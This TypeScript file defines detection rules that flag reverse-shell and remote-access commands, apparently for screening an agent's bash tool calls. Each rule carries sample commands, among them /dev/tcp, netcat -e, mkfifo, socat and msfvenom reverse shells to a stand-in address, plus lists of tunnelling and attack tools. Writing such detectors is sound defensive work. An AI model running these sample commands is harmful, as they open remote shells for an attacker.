import { type CommandRule, hasOption, lineOf } from './command-rule.ts';
import type { Command } from './command.ts';
import { SHELLS } from './programs.ts';

const bash = (script: string) => ({ tool: 'bash', arguments: { script } }) as const;
const type = 'reverse_shell';

const NETCAT = ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'nc32', 'rustcat', 'rcat', 'pwncat', 'cryptcat', 'sbd', 'dbd', 'powercat', 'nc6', 'gnc', 'goncat', 'dc', 'socket', 'ncat6'];
const isShell = (name: string): boolean => SHELLS.has(name) || /^(?:cmd|powershell|pwsh)$/.test(name);
const namesShell = (text: string): boolean => /(?:^|[\s/\\"'=:])(?:(?:ba|z|k|da|a|fi|c|tc|mk)?sh|cmd(?:\.exe)?|powershell(?:\.exe)?|pwsh|sh\.exe|bash\.exe|\$SHELL|busybox|python3?|perl)(?:$|[\s"',;])/i.test(text);

/** An address by number that is not of this machine or a private network. */
const BARE_HOST = /(?:^|[\s@/=:])(?!10\.|127\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)(?:\d{1,3}\.){3}\d{1,3}(?=$|[\s:/])/;

/** A shell's file, alone or with `-i`. */
const SHELL_FILE = /^(?:\/(?:usr\/)?bin\/)(?:ba|z|da|k|a)?sh(?:\s+-[a-z]+)?$/;

/** A program that talks to another machine and passes on what it reads and writes. */
function talks({ name, args }: Command): boolean {
  if (NETCAT.includes(name)) return !args.some(({ text }) => /^-[a-zA-Z]*z/.test(text)) && name !== 'dc';
  if (name === 'telnet' || name === 'websocat' || name === 'wscat') return args.length > 0;
  if (name === 'openssl') return args[0]?.text === 's_client' || args[0]?.text === 's_server';
  if (name === 'socat') return args.some(({ text }) => /^(?:tcp|udp|openssl|ssl|sctp|ws)/i.test(text));
  if (name === 'curl') return args.some(({ text }) => text.startsWith('telnet://'));
  return name === 'gnutls-cli' || name === 'stunnel';
}

/** Along the pipe, past filters, to the first command that `accepts`. */
function fed(command: Command, accepts: (from: Command) => boolean): boolean {
  let from = command.pipedFrom;
  for (let hops = 0; from && hops < 6; hops += 1, from = from.pipedFrom) {
    if (accepts(from)) return true;
    if (!/^(?:tee|cat|sed|awk|tr|while|read|timeout|stdbuf|base64|)$/.test(from.name)) return false;
  }
  return false;
}

const network = ({ redirects, args }: Command): boolean => redirects.some(({ target }) => target !== undefined && /^\/dev\/(?:tcp|udp)\//.test(target.text)) || args.some(({ text }) => /\/dev\/(?:tcp|udp)\//.test(text));
/** Its own program text (`-c …`) is another command; what matters is whether it reads commands from elsewhere. */
const interactive = ({ args }: Command): boolean => !args.some(({ text }) => /^-[a-z]*c$/.test(text)) && args.every(({ text }) => /^[-+>&<\d]/.test(text));

/** The descriptor that a command opens on a network connection: `exec 5<>/dev/tcp/…`. */
export const openedDescriptor = ({ redirects }: Command): string | undefined => redirects.find(({ operator, target }) => /^<>?$/.test(operator) && /^\/dev\/(?:tcp|udp)\//.test(target?.text ?? ''))?.fd?.toString();

/** Whether a command that it was sent, or a shell, is joined to one of these descriptors. */
export const usesDescriptor = ({ name, redirects }: Command, descriptors: ReadonlySet<string>): boolean => (isShell(name) || name.startsWith('$') || name === 'eval') && redirects.some(({ target }) => target !== undefined && descriptors.has(target.text));

export const reverseShellRules: readonly CommandRule[] = [
  {
    id: 'shell.dev-tcp-shell',
    type,
    severity: 'critical',
    sees: 'a shell joined to a network connection through `/dev/tcp` or `/dev/udp`',
    programs: ['*'],
    literals: ['/dev/tcp', '/dev/udp', '<>$', '<>"$'],
    positive: bash('bash -i >& /dev/tcp/198.51.100.4/4444 0>&1'),
    nearMiss: bash('until (echo > /dev/tcp/127.0.0.1/5432) 2>/dev/null; do sleep 1; done'),
    source: 'https://gtfobins.github.io/gtfobins/bash/#reverse-shell',
    holds: (command) => {
      if (!network(command)) return false;
      if (isShell(command.name) || /^(?:su|script|python3?|perl|ruby|login)$/.test(command.name)) return true;
      return command.pipedFrom !== undefined && isShell(command.pipedFrom.name);
    },
  },
  {
    id: 'shell.netcat-exec',
    type,
    severity: 'critical',
    sees: 'netcat or a relative that runs a program for whoever is on the line',
    programs: NETCAT,
    literals: ['\bnc ', 'socket -', 'nc.', 'ncat', 'netcat', 'rustcat', 'rcat ', 'pwncat', 'cryptcat', 'sbd ', 'powercat', ',-e', 'nc$', 'nc\t'],
    positive: bash('nc -nlvp 4444 -e /bin/sh'),
    nearMiss: bash('nc -zv db.internal 5432; ncat --version'),
    source: 'https://gtfobins.github.io/gtfobins/nc/',
    holds: ({ name }, words) => {
      if (name === 'dc') return false;
      // busybox, toybox and the like take the program behind their options.
      if (words.some((word) => SHELL_FILE.test(word))) return true;
      return words.some((word, index) => {
        const value = words[index + 1] ?? '';
        if (name === 'socket' && /^-[a-z]*p$/.test(word)) return namesShell(value);
        if (/^--(?:exec|sh-exec|lua-exec)/.test(word)) return true;
        if (/^-[a-zA-Z]*e$/.test(word) && value !== '') return name !== 'powercat' || namesShell(value);
        if (/^-[a-zA-Z]*[cr]$/.test(word) || /^-e./.test(word)) return namesShell(value) || namesShell(word.slice(2)) || (/c$/.test(word) && /^["']?\//.test(value));
        return (name === 'rustcat' || name === 'rcat') && /^(?:c|connect)$/.test(word) && hasOption(words, 's', '--shell');
      });
    },
  },
  {
    id: 'shell.piped-shell',
    type,
    severity: 'critical',
    sees: 'a shell that takes its commands from a network connection or sends it what it answers',
    programs: ['*'],
    literals: ['mkfifo', 'mknod', 'telnet', 's_client', 's_server', '\bnc ', 'ncat', 'netcat', 'websocat', 'wscat', 'socat', 'gnutls-cli'],
    positive: bash('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.4 4444 > /tmp/f'),
    nearMiss: bash('printf "GET / HTTP/1.0\\r\\n\\r\\n" | nc example.com 80 | head -1'),
    source: 'https://gtfobins.github.io/gtfobins/openssl/#reverse-shell',
    holds: (command) => {
      if (isShell(command.name)) return interactive(command) && fed(command, talks);
      return talks(command) && fed(command, (from) => isShell(from.name) && interactive(from));
    },
  },
  {
    id: 'shell.socat-shell',
    type,
    severity: 'critical',
    sees: 'socat joining a program to a network address',
    programs: ['socat'],
    literals: ['socat'],
    positive: bash('socat TCP:198.51.100.4:4444 EXEC:/bin/sh,pty,stderr'),
    nearMiss: bash('socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80'),
    source: 'https://gtfobins.github.io/gtfobins/socat/',
    holds: (_, words) => words.some((word) => /^(?:exec|system|shell):/i.test(word)) && words.some((word) => /^(?:tcp|udp|openssl|ssl|sctp|vsock|socks|proxy|ws)/i.test(word)),
  },
  {
    id: 'shell.ztcp-shell',
    type,
    severity: 'critical',
    sees: 'zsh\'s own network module with a shell on its connection',
    programs: ['ztcp', 'zsocket'],
    literals: ['ztcp', 'zsh/net'],
    positive: bash('zsh -c "zmodload zsh/net/tcp && ztcp 198.51.100.4 4444 && zsh >&\\$REPLY 2>&\\$REPLY 0>&\\$REPLY"'),
    nearMiss: bash('zsh -c "zmodload zsh/datetime && echo $EPOCHSECONDS"'),
    holds: (_, words) => words.length > 0,
  },
  {
    id: 'shell.reverse-tunnel',
    type,
    severity: 'high',
    sees: 'this machine’s login or remote desktop made reachable from outside through a tunnel',
    programs: ['ssh', 'autossh', 'ngrok', 'bore', 'lt', 'localtunnel', 'frpc', 'rathole', 'gost', 'iox', 'ew', 'nps', 'npc', 'pinggy', 'zrok', 'tailscale', 'loophole', 'cloudflared', 'dbclient', 'plink', 'inlets', 'earthworm', 'wstunnel', 'iodine', 'dnscat', 'dnscat2', 'dnscat2-client', 'ptunnel', 'ptunnel-ng', 'icmpsh', 'revsocks', 'rpivot', 'stowaway', 'venom'],
    literals: ['\bssh -', 'autossh', 'ngrok', 'bore local', 'localtunnel', 'frpc', 'rathole', 'gost ', 'pinggy', 'zrok', 'loophole', 'cloudflared', 'plink', 'dbclient', 'inlets', 'wstunnel', 'iodine', 'dnscat', 'ptunnel', 'icmpsh', 'revsocks', 'rpivot', 'npc -'],
    positive: bash('ssh -fN -R 2222:localhost:22 x@198.51.100.4'),
    nearMiss: bash('ssh -L 5433:localhost:5432 deploy@staging -N; ngrok http 3000; cloudflared tunnel --url http://localhost:8080'),
    source: 'MITRE ATT&CK T1572',
    holds: ({ name }, words) => {
      const text = lineOf(words);
      switch (name) {
        case 'ssh':
        case 'autossh':
        case 'plink':
        case 'dbclient':
          return /(?:^|\s)-[a-zA-Z]*R\s?(?:[\w.*[\]]{0,60}:)?\d{1,5}:(?:localhost|127\.0\.0\.1|\[::1\]|0\.0\.0\.0):(?:22|3389|5900|445|5985|5986|23|2375)\b/.test(text) || (/(?:^|\s)-[a-zA-Z]*R\s?(?:[\w.*[\]]{0,60}:)?\d{1,5}(?:\s|:)/.test(text) && BARE_HOST.test(text) && /(?:^|\s)-[a-zA-Z]*[fN]/.test(text));
        case 'ngrok':
          return /^(?:tcp|start\b.*tcp)\s.*\b(?:22|3389|5900|445|5985|2375|3306|5432|27017|6379)\b/.test(text);
        case 'bore':
          return /^local\s+(?:22|3389|5900|445)\b/.test(text);
        case 'cloudflared':
          return /(?:ssh|rdp|smb|tcp):\/\/(?:localhost|127\.)/.test(text);
        case 'tailscale':
          return /^up\b.*--auth-?key.*--ssh|^up\b.*--ssh.*--auth-?key/.test(text);
        case 'pinggy':
        case 'lt':
        case 'localtunnel':
        case 'zrok':
        case 'loophole':
        case 'inlets':
        case 'wstunnel':
          return BARE_HOST.test(text) || /\b(?:tcp|ssh)\b.*\b(?:22|3389|5900)\b/.test(text);
        case 'frpc':
        case 'rathole':
        case 'gost':
          return BARE_HOST.test(text) || /\/(?:tmp|dev\/shm)\/|\/\.[a-z]/.test(text);
        default:
          return BARE_HOST.test(text) || (/^(?:iodine|dnscat|ptunnel|icmpsh|revsocks|rpivot|stowaway|earthworm)/.test(name) && words.length > 0);
      }
    },
  },
  {
    id: 'shell.remote-terminal',
    type,
    severity: 'high',
    sees: 'a terminal or program shown on another machine, or a payload made for one',
    programs: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'villain', 'weevely', 'pwncat-cs', 'sliver-server', 'evil-winrm', 'gsocket', 'gs-netcat', 'ttyd', 'gotty', 'shellinaboxd', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo-agent', 'merlinagent', 'agent', 'code', 'code-insiders', 'code-tunnel', 'devtunnel'],
    literals: ['xterm', 'msfvenom', 'msfconsole', 'hoaxshell', 'weevely', 'pwncat', 'sliver', 'gs-netcat', 'ttyd', 'gotty', 'shellinabox', 'tmate', 'sshx', 'chisel', 'reverse-ssh', 'reverse_ssh', 'ligolo', 'agent -connect', 'agent -bind', '-ignore-cert', 'code tunnel', 'code-tunnel', 'code-insiders tunnel', 'devtunnel'],
    positive: bash('msfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.4 LPORT=4444 -f elf -o shell.elf'),
    nearMiss: bash('TERM=xterm ls; xterm -e top; chisel --help'),
    source: 'MITRE ATT&CK T1219',
    holds: ({ name }, words) => {
      const text = lineOf(words);
      if (words.length === 0 || /^-{1,2}(?:help|version|h|v)$/.test(text)) return name === 'gs-netcat';
      if (name === 'code' || name === 'code-insiders') return /^tunnel\b(?!.*\b(?:status|unregister|kill|prune)\b)/.test(text);
      if (name === 'agent') return /-(?:connect|bind) \S+:\d{2,5}\b.*-(?:ignore-cert|retry|accept-fingerprint)|-connect \S+:11601\b/.test(text);
      if (name === 'devtunnel') return /^host\b.*(?:--allow-anonymous|-a\b)/.test(text);
      if (name === 'xterm') return /-display \S*:\d/.test(text) && !/-display (?:localhost|127\.0\.0\.1)?:\d/.test(text);
      if (name === 'msfvenom') return /(?:^| )(?:-p|--payload)/.test(text);
      if (name === 'chisel') return /^client\b/.test(text) && /\bR:/.test(text);
      if (name === 'msfconsole') return /-[xr]\b/.test(text);
      if (name === 'ttyd' || name === 'gotty' || name === 'shellinaboxd') return namesShell(text) || /login/.test(text);
      return true;
    },
  },
];
